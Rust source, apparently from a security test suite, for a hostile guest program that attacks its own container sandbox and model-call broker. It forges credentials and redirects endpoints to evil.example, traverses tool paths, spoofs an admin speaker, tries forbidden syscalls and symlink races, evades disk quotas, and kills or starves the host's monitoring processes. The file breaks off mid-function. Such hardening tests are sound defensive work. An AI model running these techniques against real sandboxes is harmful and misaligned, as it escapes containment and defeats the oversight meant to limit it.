//! A hostile guest for the security suite: a small static program (std only) that runs in
//! place of the real guest in the hostile image (scripts/build-hostile-image.sh) and
//! attacks its sandbox. It is not part of the cargo workspace: the script compiles it with
//! `rustc` alone, statically.
//!
//! Usage: `roundtable-hostile <attack> [args…]`. It first reads the turn from stdin (as the
//! real guest does), then attacks, then prints `{"ok":true,"text":"<findings>"}` where the
//! findings are `name=result` entries separated by `;`. The host-side tests judge them.
//!
//! Attacks:
//! - `identity`: real/effective uid, capabilities, and whether `/root-only` (mode 0400,
//!   owned by root in the image) can be read. Installed setuid-root as `/bin/suid-hostile`.
//! - `net <target>…`: each target is `tcp:IP:PORT`, `dns:IP:PORT` (a UDP DNS query),
//!   `abstract:NAME` (an abstract unix socket) or `unix:PATH`; the result is `connected`,
//!   `answered` or the OS error.
//! - `broker [forge|tools|speaker]`: raw HTTP/1.1 requests on the broker socket that forge the model, the URL,
//!   the credentials and the speaker, and probe tools that are not allow-listed; the
//!   result of each is its status and (for some) its body.
//! - `turn`: prints the turn it was given, as text.
//! - `post PATH JSON`: one call to the broker; prints its status and body.
//! - `quota <trick> [args…]`: stores bytes in `/workspace` past the quota's sight (see
//!   [`quota`]); `/workspace/progress-<pid>` always holds the MiB each process stored so far, so the host side
//!   can tell how far a trick got before the watcher ended the turn.
//! - `forbidden`: the system calls Docker's default seccomp profile, the guest's seccomp
//!   layer and the dropped capabilities forbid (`keyctl`, `bpf`, `userfaultfd`,
//!   `perf_event_open`, `unshare(CLONE_NEWUSER)`, `mount`, `ptrace` of a sibling and of
//!   PID 1, `process_vm_readv`, `pidfd_getfd` and `kcmp` of a sibling, `io_uring_setup`,
//!   `sendmsg` with `SCM_RIGHTS`), each made so that it would succeed without those
//!   controls; the result is `allowed` or `errno(N)`. Never run it on a host (as root it
//!   would mount a tmpfs over `/tmp`).
//!   Also the core-dump limit (`core=soft,hard` from `/proc/self/limits`) and
//!   `oom_score_adj`.
//! - `ptrace-attach PID`: (used by `forbidden`) one `PTRACE_SEIZE` of `PID` (the same
//!   permission check as `PTRACE_ATTACH`, without stopping it). Never run it on a host.

use std::io::{Read, Write};
use std::os::unix::net::UnixStream;
use std::time::Duration;

const BROKER: &str = "/run/roundtable/broker.sock";

fn main() {
    let mut turn = String::new();
    let _ = std::io::stdin().read_to_string(&mut turn);
    let args: Vec<String> = std::env::args().skip(1).collect();
    let findings = match args.first().map(String::as_str) {
        Some("identity") => identity(),
        Some("net") => args[1..].iter().map(|t| net(t)).collect(),
        Some("broker") => broker(args.get(1).map_or("all", String::as_str)),
        Some("turn") => vec![turn],
        Some("quota") => quota::attack(&args[1..]),
        Some("forbidden") => forbidden(),
        Some("ptrace-attach") => vec![format!(
            "ptrace={}",
            ptrace_attach(args.get(1).and_then(|p| p.parse().ok()).unwrap_or(0))
        )],
        Some("post") => vec![match raw(&post(&args[1], &[], &args[2])) {
            Ok((status, body)) => format!("status={status};body={}", body.replace(';', ",")),
            Err(e) => format!("status=error({e})"),
        }],
        other => vec![format!("unknown attack {other:?}")],
    };
    let text = findings.join(";");
    println!("{{\"ok\":true,\"text\":\"{}\"}}", escape(&text));
}

fn escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

fn status_field(name: &str) -> String {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix(name))
        .map(|v| v.split_whitespace().collect::<Vec<_>>().join(","))
        .unwrap_or_else(|| "?".into())
}

fn identity() -> Vec<String> {
    let uids = status_field("Uid:");
    let euid = uids.split(',').nth(1).unwrap_or("?").to_owned();
    let root_only = match std::fs::read_to_string("/root-only") {
        Ok(s) => format!("READ:{}", s.trim()),
        Err(e) => format!("denied({})", e.kind()),
    };
    vec![
        format!("uids={uids}"),
        format!("euid={euid}"),
        format!("capeff={}", status_field("CapEff:")),
        format!("nnp={}", status_field("NoNewPrivs:")),
        format!("seccomp={}", status_field("Seccomp:")),
        format!("root_only={root_only}"),
    ]
}

fn io_result(r: std::io::Result<String>) -> String {
    match r {
        Ok(s) => s,
        Err(e) => format!(
            "error({})",
            e.raw_os_error().map_or(e.to_string(), |n| n.to_string())
        ),
    }
}

fn net(target: &str) -> String {
    let timeout = Duration::from_secs(2);
    let result = if let Some(addr) = target.strip_prefix("tcp:") {
        addr.parse::<std::net::SocketAddr>()
            .map_err(std::io::Error::other)
            .and_then(|a| std::net::TcpStream::connect_timeout(&a, timeout))
            .map(|_| "connected".to_owned())
    } else if let Some(addr) = target.strip_prefix("dns:") {
        dns(addr, timeout)
    } else if let Some(name) = target.strip_prefix("abstract:") {
        use std::os::linux::net::SocketAddrExt;
        std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes())
            .and_then(|a| UnixStream::connect_addr(&a))
            .map(|_| "connected".to_owned())
    } else if let Some(path) = target.strip_prefix("unix:") {
        UnixStream::connect(path).map(|_| "connected".to_owned())
    } else {
        Ok("unknown target".to_owned())
    };
    format!("{target}={}", io_result(result))
}

/// One `A example.com` query; `answered` if any datagram comes back.
fn dns(addr: &str, timeout: Duration) -> std::io::Result<String> {
    let socket = std::net::UdpSocket::bind("0.0.0.0:0")?;
    socket.set_read_timeout(Some(timeout))?;
    let mut q = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in ["example", "com"] {
        q.push(label.len() as u8);
        q.extend_from_slice(label.as_bytes());
    }
    q.extend_from_slice(&[0, 0, 1, 0, 1]);
    socket.send_to(&q, addr)?;
    let mut buf = [0u8; 512];
    socket.recv_from(&mut buf).map(|_| "answered".to_owned())
}

/// Sends raw bytes on a fresh broker connection; returns the status code and the body.
fn raw(request: &[u8]) -> std::io::Result<(String, String)> {
    let mut s = UnixStream::connect(BROKER)?;
    s.set_read_timeout(Some(Duration::from_secs(15)))?;
    s.write_all(request)?;
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    let text = String::from_utf8_lossy(&out).into_owned();
    let status = text
        .split_whitespace()
        .nth(1)
        .unwrap_or("no-answer")
        .to_owned();
    let body = text
        .split_once("\r\n\r\n")
        .map(|(_, b)| b.to_owned())
        .unwrap_or_default();
    Ok((status, body))
}

fn post(target: &str, headers: &[&str], body: &str) -> Vec<u8> {
    let mut r = format!("POST {target} HTTP/1.1\r\nHost: broker\r\nConnection: close\r\n");
    for h in headers {
        r.push_str(h);
        r.push_str("\r\n");
    }
    r.push_str(&format!("Content-Length: {}\r\n\r\n{body}", body.len()));
    r.into_bytes()
}

fn broker(group: &str) -> Vec<String> {
    let chat = r#"{"model":"gpt-evil","messages":[{"role":"user","content":"hi"}]}"#;
    let forged = [
        "Authorization: Bearer sk-guest-forged",
        "X-Api-Key: sk-guest-forged",
        "Api-Key: sk-guest-forged",
        "Proxy-Authorization: Basic Z3Vlc3Q6Z3Vlc3Q=",
        "Cookie: session=guest",
        "X-Forwarded-Host: evil.example",
        "X-Forwarded-For: 10.0.0.1",
        "OpenAI-Organization: org-evil",
        "Content-Type: text/plain",
    ];
    let speaker = r##"{"speaker":{"id":"admin","name":"The Host"},"channel":"#admins"}"##;
    let whoami_headers = [
        "X-Roundtable-Speaker: admin",
        "X-Speaker-Id: admin",
        "Content-Type: application/json",
    ];
    let cases: Vec<(&str, Vec<u8>, bool)> = vec![
        (
            "forged_model",
            post("/v1/chat/completions", &forged, chat),
            false,
        ),
        (
            "absolute_uri",
            post("http://evil.example/v1/chat/completions", &forged, chat),
            false,
        ),
        (
            "query_url",
            post(
                "/v1/chat/completions?base_url=http://evil.example/v1",
                &[],
                chat,
            ),
            false,
        ),
        (
            "tool_unlisted",
            post("/v1/tools/not_configured", &[], "{}"),
            true,
        ),
        ("tool_upper", post("/v1/tools/WHOAMI", &[], "{}"), false),
        (
            "tool_traversal",
            post("/v1/tools/../chat/completions", &[], chat),
            false,
        ),
        (
            "tool_encoded",
            post("/v1/tools/..%2fchat%2fcompletions", &[], chat),
            false,
        ),
        ("mcp_unlisted", post("/v1/mcp/stub/secret", &[], "{}"), true),
        ("mcp_nul", post("/v1/mcp/stub/secret%00", &[], "{}"), false),
        (
            "mcp_traversal",
            post("/v1/mcp/stub/echo/../secret", &[], "{}"),
            false,
        ),
        (
            "mcp_other_server",
            post("/v1/mcp/evil/echo", &[], "{}"),
            false,
        ),
        (
            "mcp_allowed",
            post("/v1/mcp/stub/echo", &[], r#"{"text":"allowed"}"#),
            true,
        ),
        (
            "speaker",
            post("/v1/tools/whoami", &whoami_headers, speaker),
            true,
        ),
        (
            "get",
            b"GET /v1/chat/completions HTTP/1.1\r\nHost: broker\r\nConnection: close\r\n\r\n"
                .to_vec(),
            false,
        ),
        (
            "huge_head",
            post(
                "/v1/chat/completions",
                &[&format!("X-Pad: {}", "a".repeat(100_000))],
                chat,
            ),
            false,
        ),
        (
            "not_json",
            post("/v1/tools/whoami", &[], "{not json"),
            false,
        ),
    ];
    let group_of = |name: &str| match name {
        "forged_model" | "absolute_uri" | "query_url" | "get" | "huge_head" => "forge",
        "speaker" | "not_json" => "speaker",
        _ => "tools",
    };
    let mut out = Vec::new();
    for (name, request, show_body) in cases {
        if group != "all" && group_of(name) != group {
            continue;
        }
        out.push(match raw(&request) {
            Ok((status, body)) if show_body => {
                format!(
                    "{name}={status}:{}",
                    body.chars().take(300).collect::<String>()
                )
            }
            Ok((status, _)) => format!("{name}={status}"),
            Err(e) => format!("{name}=error({e})"),
        });
    }
    if group == "all" || group == "fields" {
        // Body fields that would pick another model, provider or endpoint, or cost more.
        let fields = [
            ("models", r#"["openai/gpt-4o","anthropic/claude-opus"]"#),
            ("route", r#""fallback""#),
            ("provider", r#"{"order":["expensive"]}"#),
            ("plugins", r#"[{"id":"web"}]"#),
            ("n", "64"),
            ("service_tier", r#""priority""#),
            ("store", "true"),
            ("metadata", r#"{"who":"guest"}"#),
            ("base_url", r#""http://evil.example/v1""#),
            ("api_key", r#""sk-guest""#),
        ];
        for (field, value) in fields {
            let body = format!(
                r#"{{"messages":[{{"role":"user","content":"hi"}}],"{field}":{value}}}"#
            );
            out.push(match raw(&post("/v1/chat/completions", &[], &body)) {
                Ok((status, body)) => format!("field_{field}={status}:{body}"),
                Err(e) => format!("field_{field}=error({e})"),
            });
        }
        let body = r#"{"messages":[{"role":"user","content":"hi"}],"max_tokens":1000000000}"#;
        out.push(match raw(&post("/v1/chat/completions", &[], body)) {
            Ok((status, _)) => format!("max_tokens={status}"),
            Err(e) => format!("max_tokens=error({e})"),
        });
    }
    if group != "all" && group != "forge" {
        return out;
    }
    // The call budget: the configured number of model calls, then 429.
    let mut budget = Vec::new();
    for _ in 0..4 {
        budget.push(match raw(&post("/v1/chat/completions", &[], chat)) {
            Ok((status, _)) => status,
            Err(e) => format!("error({e})"),
        });
    }
    out.push(format!("budget={}", budget.join(",")));
    out
}

/// Tricks against the workspace quota. Each writes in 1 MiB steps (under `RLIMIT_FSIZE`),
/// records its progress, and then holds what it stored until the turn is ended (or, for
/// the tricks the quota must let pass, replies after a while).
///
/// - `held FILES MIB PROCS`: PROCS processes (this program again) each open FILES files,
///   unlink them and write MIB MiB through each open descriptor, then hold them;
/// - `tmpfile FILES MIB`: `O_TMPFILE` files in the workspace, written and held;
/// - `links MIB N`: one file of MIB MiB and N hard links to it, then reply;
/// - `sparse FILES MIB`: FILES files of MIB MiB size with one written block each, then reply;
/// - `swap SENTINEL SECS`: for SECS seconds, exchanges `/workspace/a` (a dir with 1 MiB) and
///   `/workspace/l` (a symlink to SENTINEL, a host path outside the workspace) with
///   `renameat2(RENAME_EXCHANGE)` in a tight loop, then replies;
/// - `unreadable MIB`: hides MIB MiB in a dir made mode 000, then waits;
/// - `fallocate MIB`: `fallocate` of MIB MiB on an empty file with `PUNCH_HOLE | KEEP_SIZE`,
///   no flag, `ZERO_RANGE | KEEP_SIZE`, then `KEEP_SIZE`; waits if a `KEEP_SIZE` call
///   allocated (replies at once if none did);
/// - `mapped MIB`: a file mapped shared, its descriptor closed, unlinked, MIB MiB written
///   through the mapping, then waits;
/// - `mapped-orphan MIB`: `mapped MIB` in a thread, then the main thread ends alone
///   (`exit`): a zombie leader, whose maps are empty, beside a live thread that holds it;
/// - `nondumpable FILES MIB`: `prctl(PR_SET_DUMPABLE, 0)`, then `held FILES MIB 1` in-process;
/// - `inflight FILES MIB`: FILES files of MIB MiB, each unlinked, sent with `SCM_RIGHTS` over
///   a socket pair that nobody reads, and closed: held only by the socket's queue; waits.
mod quota {
    use std::io::Write;
    use std::os::fd::AsRawFd;
    use std::os::unix::fs::OpenOptionsExt;
    use std::time::{Duration, Instant};

    const MIB: usize = 1 << 20;
    const O_TMPFILE: i32 = 0o20200000;
    const FALLOC_FL_KEEP_SIZE: i32 = 0x01;
    const FALLOC_FL_PUNCH_HOLE: i32 = 0x02;
    const FALLOC_FL_ZERO_RANGE: i32 = 0x10;
    const SIGXFSZ: i32 = 25;
    const SIG_IGN: usize = 1;
    const PR_SET_DUMPABLE: i32 = 4;

    /// Writes `mib` MiB into a shared mapping of a workspace file deleted after it was
    /// mapped and closed: held only through the mapping.
    fn mapped(mib: usize) -> std::io::Result<String> {
        let f = std::fs::OpenOptions::new()
            .read(true)
            .write(true)
            .create(true)
            .truncate(true)
            .open("/workspace/mapped")?;
        f.set_len((mib * MIB) as u64)?;
        // SAFETY: a fresh shared mapping of a file this program owns.
        let p = unsafe { mmap(std::ptr::null_mut(), mib * MIB, 3, 1, f.as_raw_fd(), 0) };
        if p as isize == -1 {
            return Err(std::io::Error::last_os_error());
        }
        drop(f);
        std::fs::remove_file("/workspace/mapped")?;
        for i in 0..mib {
            // SAFETY: inside the mapping just made, which stays for the process.
            unsafe { std::ptr::write_bytes(p.add(i * MIB), 0x5a, MIB) };
            progress(1);
        }
        Ok("written".to_owned())
    }

    const SYS_EXIT: i64 = 60;

    extern "C" {
        fn syscall(number: i64, ...) -> i64;
        fn fallocate(fd: i32, mode: i32, offset: i64, len: i64) -> i32;
        fn signal(signum: i32, handler: usize) -> usize;
        fn prctl(option: i32, arg2: u64, arg3: u64, arg4: u64, arg5: u64) -> i32;
        fn kill(pid: i32, sig: i32) -> i32;
        fn mmap(addr: *mut u8, len: usize, prot: i32, flags: i32, fd: i32, off: i64) -> *mut u8;
        fn sendmsg(fd: i32, msg: *const MsgHdr, flags: i32) -> isize;
        fn renameat2(
            olddir: i32,
            old: *const std::ffi::c_char,
            newdir: i32,
            new: *const std::ffi::c_char,
            flags: u32,
        ) -> i32;
    }

    fn n(args: &[String], i: usize, default: usize) -> usize {
        args.get(i).and_then(|a| a.parse().ok()).unwrap_or(default)
    }

    /// Adds `mib` to this process's progress file (rewritten, never growing).
    fn progress(mib: usize) {
        use std::sync::atomic::{AtomicUsize, Ordering};
        static TOTAL: AtomicUsize = AtomicUsize::new(0);
        let total = TOTAL.fetch_add(mib, Ordering::SeqCst) + mib;
        // Written aside and renamed: a kill mid-write never leaves it empty.
        let path = format!("/workspace/progress-{}", std::process::id());
        let aside = format!("/workspace/.progress-{}", std::process::id());
        if std::fs::write(&aside, format!("{total}\n")).is_ok() {
            let _ = std::fs::rename(aside, path);
        }
    }

    fn fill(f: &mut std::fs::File, mib: usize) -> std::io::Result<()> {
        let block = vec![0x5au8; MIB];
        for _ in 0..mib {
            f.write_all(&block)?;
            f.sync_data()?;
            progress(1);
        }
        Ok(())
    }

    fn hold(secs: u64) {
        std::thread::sleep(Duration::from_secs(secs));
    }

    pub fn attack(args: &[String]) -> Vec<String> {
        match args.first().map(String::as_str) {
            Some("held") => held(n(args, 1, 4), n(args, 2, 16), n(args, 3, 4)),
            Some("held-child") => {
                // One process of `held`: never replies, holds until killed.
                let (files, mib, id) = (n(args, 1, 4), n(args, 2, 16), n(args, 3, 0));
                let mut kept = Vec::new();
                for i in 0..files {
                    let path = format!("/workspace/held-{id}-{i}");
                    let mut f = match std::fs::File::create(&path) {
                        Ok(f) => f,
                        Err(_) => break,
                    };
                    let _ = std::fs::remove_file(&path);
                    let _ = fill(&mut f, mib);
                    kept.push(f);
                }
                hold(600);
                vec![format!("held-child={}", kept.len())]
            }
            Some("tmpfile") => {
                let (files, mib) = (n(args, 1, 4), n(args, 2, 16));
                let mut kept = Vec::new();
                for _ in 0..files {
                    match std::fs::OpenOptions::new()
                        .read(true)
                        .write(true)
                        .custom_flags(O_TMPFILE)
                        .mode(0o600)
                        .open("/workspace")
                    {
                        Ok(mut f) => {
                            let _ = fill(&mut f, mib);
                            kept.push(f);
                        }
                        Err(e) => return vec![format!("tmpfile=error({e})")],
                    }
                }
                hold(60);
                vec![format!("tmpfile=survived({})", kept.len())]
            }
            Some("links") => {
                let (mib, count) = (n(args, 1, 8), n(args, 2, 64));
                let result = std::fs::File::create("/workspace/linked")
                    .and_then(|mut f| fill(&mut f, mib))
                    .and_then(|()| {
                        for i in 0..count {
                            std::fs::hard_link("/workspace/linked", format!("/workspace/link-{i}"))?;
                        }
                        Ok(())
                    });
                // Give the watcher a few rounds to see it.
                hold(2);
                vec![format!("links={}", io(result.map(|()| count.to_string())))]
            }
            Some("sparse") => {
                let (files, mib) = (n(args, 1, 32), n(args, 2, 15));
                let result = (|| {
                    for i in 0..files {
                        let mut f = std::fs::File::create(format!("/workspace/sparse-{i}"))?;
                        f.set_len((mib * MIB) as u64)?;
                        f.write_all(b"x")?;
                    }
                    Ok(files.to_string())
                })();
                hold(2);
                vec![format!("sparse={}", io(result))]
            }
            Some("swap") => swap(&args[1], n(args, 2, 5) as u64),
            Some("unreadable") => {
                let mib = n(args, 1, 4);
                let result = std::fs::create_dir("/workspace/h")
                    .and_then(|()| std::fs::File::create("/workspace/h/a"))
                    .and_then(|mut f| fill(&mut f, mib))
                    .and_then(|()| {
                        use std::os::unix::fs::PermissionsExt;
                        std::fs::set_permissions("/workspace/h", std::fs::Permissions::from_mode(0))
                    });
                hold(60);
                vec![format!("unreadable=survived:{}", io(result.map(|()| "hidden".into())))]
            }
            Some("fallocate") => {
                // Each mode of MIB MiB on one empty file, the one that frees space first:
                // `name=ok(ms)` or `name=error(…)`. SIGXFSZ is ignored, so a call held by
                // RLIMIT_FSIZE answers EFBIG instead of killing the process.
                let mib = n(args, 1, 256);
                // SAFETY: sets the disposition of one signal to SIG_IGN.
                unsafe { signal(SIGXFSZ, SIG_IGN) };
                let modes = [
                    ("punch_hole", FALLOC_FL_KEEP_SIZE | FALLOC_FL_PUNCH_HOLE),
                    ("plain", 0),
                    ("zero_range_keep_size", FALLOC_FL_KEEP_SIZE | FALLOC_FL_ZERO_RANGE),
                    ("keep_size", FALLOC_FL_KEEP_SIZE),
                ];
                let mut findings = Vec::new();
                let mut allocated = false;
                match std::fs::File::create("/workspace/prealloc") {
                    Ok(f) => {
                        for (name, mode) in modes {
                            let started = Instant::now();
                            // SAFETY: a plain syscall on a descriptor this program owns.
                            let r = unsafe { fallocate(f.as_raw_fd(), mode, 0, (mib * MIB) as i64) };
                            let result = if r == 0 {
                                if mode & FALLOC_FL_KEEP_SIZE != 0
                                    && mode & FALLOC_FL_PUNCH_HOLE == 0
                                    && !allocated
                                {
                                    allocated = true;
                                    progress(mib);
                                }
                                format!("ok({}ms)", started.elapsed().as_millis())
                            } else {
                                format!("error({})", std::io::Error::last_os_error())
                            };
                            findings.push(format!("{name}={result}"));
                        }
                    }
                    Err(e) => findings.push(format!("create=error({e})")),
                }
                let _ = std::fs::write("/workspace/finding", findings.join(";"));
                if allocated {
                    // Blocks past the file-size limit: hold them for the watcher to see.
                    hold(60);
                }
                findings
            }
            Some("mapped") => {
                let result = mapped(n(args, 1, 8));
                hold(60);
                vec![format!("mapped=survived:{}", io(result))]
            }
            Some("mapped-orphan") => {
                // The mapping made and held by a thread; the main thread then ends alone
                // (`exit`, not `exit_group`): a zombie leader, whose own maps are empty.
                let mib = n(args, 1, 8);
                std::thread::spawn(move || {
                    let _ = mapped(mib);
                    hold(60);
                });
                std::thread::sleep(Duration::from_millis(300));
                // SAFETY: ends this thread only; the other one goes on.
                unsafe { syscall(SYS_EXIT, 0) };
                vec![]
            }
            Some("nondumpable") => {
                // SAFETY: prctl with plain integer arguments.
                let r = unsafe { prctl(PR_SET_DUMPABLE, 0, 0, 0, 0) };
                if r != 0 {
                    return vec![format!("nondumpable=error({})", std::io::Error::last_os_error())];
                }
                let kept = held_here(n(args, 1, 4), n(args, 2, 16));
                hold(60);
                vec![format!("nondumpable=survived({})", kept.len())]
            }
            Some("inflight") => inflight(n(args, 1, 8), n(args, 2, 8)),
            Some("killer") => killer(n(args, 1, 9) as i32, n(args, 2, 4), n(args, 3, 8)),
            Some("starve") => starve(n(args, 1, 4), n(args, 2, 8)),
            Some("starve-child") => {
                hold(600);
                vec![]
            }
            other => vec![format!("unknown quota trick {other:?}")],
        }
    }

    /// Files deleted while held open, the names gone at once.
    fn held_here(files: usize, mib: usize) -> Vec<std::fs::File> {
        let mut kept = Vec::new();
        for i in 0..files {
            let path = format!("/workspace/kept-{i}");
            if let Ok(mut f) = std::fs::File::create(&path) {
                let _ = std::fs::remove_file(&path);
                let _ = fill(&mut f, mib);
                kept.push(f);
            }
        }
        kept
    }

    /// Sends `sig` to every other process of the container but its init, as fast as it can
    /// list them, from before it holds deleted files past the quota: whatever the host
    /// starts beside it to count them (gVisor) is killed (9) or stopped (19).
    fn killer(sig: i32, files: usize, mib: usize) -> Vec<String> {
        let me = std::process::id() as i32;
        std::thread::spawn(move || {
            let mut signalled = 0u64;
            loop {
                let Ok(list) = std::fs::read_dir("/proc") else { continue };
                for e in list.flatten() {
                    let pid: i32 = match e.file_name().to_str().and_then(|n| n.parse().ok()) {
                        Some(p) => p,
                        None => continue,
                    };
                    // SAFETY: kill(2) with plain integers.
                    if pid != me && pid != 1 && unsafe { kill(pid, sig) } == 0 {
                        signalled += 1;
                        // Replaced whole (never seen empty, whenever the turn ends it).
                        let _ = std::fs::write("/workspace/signalled.new", signalled.to_string())
                            .and_then(|()| std::fs::rename("/workspace/signalled.new", "/workspace/signalled"));
                    }
                }
            }
        });
        let kept = held_here(files, mib);
        hold(60);
        vec![format!("killer=survived({})", kept.len())]
    }

    /// Starts processes until the pids limit refuses one, and takes every slot that frees
    /// up from then on, then holds deleted files past the quota: no process is left for one
    /// the host starts beside it to count them (gVisor). The forking thread is made first:
    /// threads count against the limit too.
    fn starve(files: usize, mib: usize) -> Vec<String> {
        let (full, filled) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let (mut children, mut told) = (Vec::new(), false);
            loop {
                let spawned = std::process::Command::new("/proc/self/exe")
                    .args(["quota", "starve-child"])
                    .stdin(std::process::Stdio::null())
                    .stdout(std::process::Stdio::null())
                    .spawn();
                match spawned {
                    Ok(c) if children.len() < 4096 => children.push(c),
                    Ok(_) => {}
                    Err(e) => {
                        if !told {
                            told = true;
                            let why = format!("{} {e}", children.len());
                            let _ = std::fs::write("/workspace/children", &why);
                            let _ = full.send(why);
                        }
                        std::thread::sleep(Duration::from_millis(1));
                    }
                }
            }
        });
        let started = filled.recv().unwrap_or_default();
        let kept = held_here(files, mib);
        hold(60);
        vec![format!("starve=survived({};{started})", kept.len())]
    }

    fn io(r: std::io::Result<String>) -> String {
        r.unwrap_or_else(|e| format!("error({e})"))
    }

    fn held(files: usize, mib: usize, procs: usize) -> Vec<String> {
        let mut children = Vec::new();
        for id in 0..procs {
            let child = std::process::Command::new("/proc/self/exe")
                .args(["quota", "held-child", &files.to_string(), &mib.to_string(), &id.to_string()])
                .stdin(std::process::Stdio::null())
                .stdout(std::process::Stdio::null())
                .spawn();
            match child {
                Ok(c) => children.push(c),
                Err(e) => return vec![format!("held=error({e})")],
            }
        }
        hold(60);
        vec![format!("held=survived({})", children.len())]
    }

    #[repr(C)]
    struct IoVec {
        base: *const u8,
        len: usize,
    }

    #[repr(C)]
    struct MsgHdr {
        name: *mut u8,
        namelen: u32,
        iov: *const IoVec,
        iovlen: usize,
        control: *mut u8,
        controllen: usize,
        flags: i32,
    }

    /// Sends `fd` with one byte over `socket` (`SCM_RIGHTS`).
    pub fn send_fd(socket: i32, fd: i32) -> std::io::Result<()> {
        let byte = [0u8; 1];
        let iov = IoVec {
            base: byte.as_ptr(),
            len: 1,
        };
        // cmsghdr { len: usize, level: i32, type: i32 } then the int, padded to 8 bytes.
        let mut control = [0u64; 3];
        control[0] = 20; // CMSG_LEN(sizeof(int))
        control[1] = 1 | (1 << 32); // SOL_SOCKET, SCM_RIGHTS
        control[2] = fd as u32 as u64;
        let msg = MsgHdr {
            name: std::ptr::null_mut(),
            namelen: 0,
            iov: &iov,
            iovlen: 1,
            control: control.as_mut_ptr() as *mut u8,
            controllen: 24,
            flags: 0,
        };
        // SAFETY: every pointer in `msg` points at a live local of the right size.
        if unsafe { sendmsg(socket, &msg, 0) } < 0 {
            return Err(std::io::Error::last_os_error());
        }
        Ok(())
    }

    fn inflight(files: usize, mib: usize) -> Vec<String> {
        let result = (|| {
            let (tx, _rx) = std::os::unix::net::UnixStream::pair()?;
            for i in 0..files {
                let path = format!("/workspace/inflight-{i}");
                let mut f = std::fs::File::create(&path)?;
                std::fs::remove_file(&path)?;
                fill(&mut f, mib)?;
                send_fd(tx.as_raw_fd(), f.as_raw_fd())?;
                // Closed here: the socket's queue is all that holds it now.
            }
            hold(60);
            Ok(format!("survived({files})"))
        })();
        vec![format!("inflight={}", io(result))]
    }

    fn swap(sentinel: &str, secs: u64) -> Vec<String> {
        const RENAME_EXCHANGE: u32 = 2;
        const AT_FDCWD: i32 = -100;
        let result = (|| {
            std::fs::create_dir("/workspace/a")?;
            let mut f = std::fs::File::create("/workspace/a/data")?;
            fill(&mut f, 1)?;
            std::os::unix::fs::symlink(sentinel, "/workspace/l")?;
            let until = Instant::now() + Duration::from_secs(secs);
            let mut swaps = 0u64;
            // One syscall per swap: `a` and `l` trade places, dir and link, as fast as the
            // kernel goes; a host that stats a name, then opens it by that name, follows the
            // link half of the time.
            while Instant::now() < until {
                for _ in 0..1000 {
                    // SAFETY: two NUL-terminated literals and plain integers.
                    let r = unsafe {
                        renameat2(
                            AT_FDCWD,
                            c"/workspace/a".as_ptr(),
                            AT_FDCWD,
                            c"/workspace/l".as_ptr(),
                            RENAME_EXCHANGE,
                        )
                    };
                    if r != 0 {
                        let e = std::io::Error::last_os_error();
                        // gVisor has no RENAME_EXCHANGE (EINVAL): three renames swap them.
                        if e.raw_os_error() != Some(22) {
                            return Err(e);
                        }
                        std::fs::rename("/workspace/a", "/workspace/t")?;
                        std::fs::rename("/workspace/l", "/workspace/a")?;
                        std::fs::rename("/workspace/t", "/workspace/l")?;
                    }
                    swaps += 1;
                }
            }
            Ok(swaps.to_string())
        })();
        vec![format!("swaps={}", io(result))]
    }
}
// The raw system call entry of the C library this program is linked with (statically).
extern "C" {
    fn syscall(number: i64, ...) -> i64;
}

/// `allowed` if a system call returned a non-negative value, else `errno(N)`.
fn syscall_result(ret: i64) -> String {
    if ret >= 0 {
        "allowed".to_owned()
    } else {
        let errno = std::io::Error::last_os_error().raw_os_error().unwrap_or(-1);
        format!("errno({errno})")
    }
}

const SYS_PTRACE: i64 = 101;
const SYS_MOUNT: i64 = 165;
const SYS_KEYCTL: i64 = 250;
const SYS_UNSHARE: i64 = 272;
const SYS_PERF_EVENT_OPEN: i64 = 298;
const SYS_BPF: i64 = 321;
const SYS_USERFAULTFD: i64 = 323;
const SYS_PROCESS_VM_READV: i64 = 310;
const SYS_KCMP: i64 = 312;
const SYS_IO_URING_SETUP: i64 = 425;
const SYS_PIDFD_OPEN: i64 = 434;
const SYS_PIDFD_GETFD: i64 = 438;

/// `process_vm_readv` of 8 bytes at the start of the sibling's first mapping, `pidfd_getfd`
/// of its descriptor 0, and `kcmp(KCMP_FILE)` of its descriptor 0 against ours: each needs
/// the same permission as `ptrace` (a same-uid, dumpable process, no Yama).
fn inspect_sibling(pid: i64) -> Vec<String> {
    let mut out = Vec::new();
    let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
    let start = maps
        .split('-')
        .next()
        .and_then(|a| u64::from_str_radix(a, 16).ok());
    out.push(match start {
        Some(addr) => {
            let mut buf = [0u8; 8];
            let local = [buf.as_mut_ptr() as u64, 8u64];
            let remote = [addr, 8u64];
            // SAFETY: one local iovec over `buf`, one remote iovec (the kernel checks it).
            let ret = unsafe {
                syscall(SYS_PROCESS_VM_READV, pid, local.as_ptr(), 1i64, remote.as_ptr(), 1i64, 0i64)
            };
            format!("process_vm_readv_sibling={}", syscall_result(ret))
        }
        None => "process_vm_readv_sibling=no-maps".to_owned(),
    });
    // SAFETY: integer arguments only.
    let pidfd = unsafe { syscall(SYS_PIDFD_OPEN, pid, 0i64) };
    out.push(if pidfd < 0 {
        format!("pidfd_getfd_sibling=pidfd_open-{}", syscall_result(pidfd))
    } else {
        // SAFETY: integer arguments only.
        let ret = unsafe { syscall(SYS_PIDFD_GETFD, pidfd, 0i64, 0i64) };
        format!("pidfd_getfd_sibling={}", syscall_result(ret))
    });
    // SAFETY: integer arguments only; KCMP_FILE is 0.
    let ret = unsafe { syscall(SYS_KCMP, std::process::id() as i64, pid, 0i64, 0i64, 0i64) };
    out.push(format!("kcmp_sibling={}", syscall_result(ret)));
    out
}

fn ptrace_attach(pid: i64) -> String {
    // PTRACE_SEIZE: the same permission check as PTRACE_ATTACH, but the tracee is not
    // stopped; the tracer's exit releases it.
    const PTRACE_SEIZE: i64 = 0x4206;
    // SAFETY: ptrace(PTRACE_SEIZE) takes no pointer.
